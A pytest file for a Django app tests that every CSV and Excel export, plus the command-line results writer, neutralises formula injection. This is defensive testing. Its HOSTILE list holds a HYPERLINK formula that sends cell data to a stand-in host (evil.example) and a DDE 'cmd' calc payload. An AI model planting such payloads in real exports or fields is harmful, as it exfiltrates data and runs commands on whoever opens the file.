"""Formula injection: user text starting with =, +, -, @ is inert in every export the app has.

Every URL whose route ends in .xlsx or .csv is fetched (as the admin, after publication) with a
unit name and explanations that are formulas, and every cell of the answer is checked; the
engine's results writer (CSV and Excel, used by the command line) is checked the same way.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from tests.web.conftest import advance, entry

from dti.io.cells import neutralise

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
DANGEROUS = ("=", "+", "-", "@")


def _export_routes() -> list[tuple[str, str, dict[str, Any]]]:
    out: list[tuple[str, str, dict[str, Any]]] = []

    def walk(patterns: list[Any], prefix: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and str(p.pattern).endswith((".xlsx", ".csv")):
                out.append((p.name or str(p.pattern), prefix + str(p.pattern), p.default_args))

    walk(get_resolver().url_patterns, "")
    return out


def _fill(route: str, world: dict[str, Any]) -> str:
    theirs = world["theirs"]
    # (a framework's own export takes the framework version's key)
    pk = world["framework"].pk if route.startswith("frameworks/") else theirs.pk
    if route.startswith("periods/"):  # (a period's own export: the robustness report)
        pk = world["period"].pk
    path = route.replace("<int:pk>", str(pk)).replace("<int:year>", "2023")
    path = path.replace("<slug:unit>", theirs.unit.code).replace("<str:unit>", theirs.unit.code)
    return "/" + path


def _cells(content: bytes, kind: str) -> list[tuple[str, Any, str]]:
    """(where, value, data_type) of every non-empty cell."""
    if kind == "csv":
        text = content.decode("utf-8-sig")
        return [
            (f"row {r}", value, "s")
            for r, row in enumerate(csv.reader(io.StringIO(text)))
            for value in row
            if value
        ]
    workbook = load_workbook(io.BytesIO(content))
    return [
        (f"{ws.title}!{cell.coordinate}", cell.value, cell.data_type)
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_inert(cells: list[tuple[str, Any, str]], what: str) -> None:
    formulas = [(w, v) for w, v, t in cells if t == "f"]
    assert not formulas, (what, formulas[:5])
    live = [
        (w, v)
        for w, v, _ in cells
        if isinstance(v, str) and v.startswith(DANGEROUS) and neutralise(v) != v
    ]
    assert not live, (what, live[:5])


@pytest.fixture
def hostile_world(world: dict[str, Any]) -> dict[str, Any]:
    from dti.web.assessments.services import entry_save_self

    unit = world["units"]["b"]
    unit.name = HOSTILE[0]
    unit.save()
    theirs = world["theirs"]
    for code, text in zip(("1.1", "1.2"), HOSTILE[1:], strict=False):
        e = entry(theirs, code)
        entry_save_self(
            actor=world["users"]["outsider"],
            entry=e,
            version=e.version,
            value=1 if code == "1.1" else 10,
            denominator=None if code == "1.1" else 20,
            applicable=True,
            explanation=text,
        )
    world["theirs"] = advance(world, theirs, "published")
    return world


def test_every_spreadsheet_export_of_the_app_is_inert(hostile_world: dict[str, Any]) -> None:
    routes = _export_routes()
    assert routes, "the walk found no export at all"
    client = Client()
    client.force_login(hostile_world["users"]["admin"])
    checked = []
    for name, route, _ in routes:
        response = client.get(_fill(route, hostile_world))
        assert response.status_code == 200, (name, response.status_code)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        _assert_inert(_cells(content, "csv" if route.endswith(".csv") else "xlsx"), name)
        checked.append(name)
    assert "template_download" in checked


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_results_writer_is_inert(tmp_path: Path, suffix: str) -> None:
    """The command line's results export (dti score --out) with hostile unit names."""
    import polars as pl

    from dti.engine import load_framework, score
    from dti.io.results import write_results

    framework = load_framework(Path(__file__).resolve().parents[1] / "fixtures" / "mini.yaml")
    units = pl.DataFrame({"unit": ["u1", "u2"], "name": HOSTILE[:2], "group": ["so", "so"]})
    values = pl.DataFrame(
        {
            "unit": ["u1", "u2"],
            "period": ["2023", "2023"],
            "indicator": ["1.1", "1.1"],
            "value": [1.0, 0.0],
            "denominator": [None, None],
            "applicable": [True, True],
        },
        schema_overrides={"denominator": pl.Float64},
    )
    out = tmp_path / f"results{suffix}"
    write_results(score(framework, values, units), out)
    _assert_inert(_cells(out.read_bytes(), suffix.lstrip(".")), suffix)
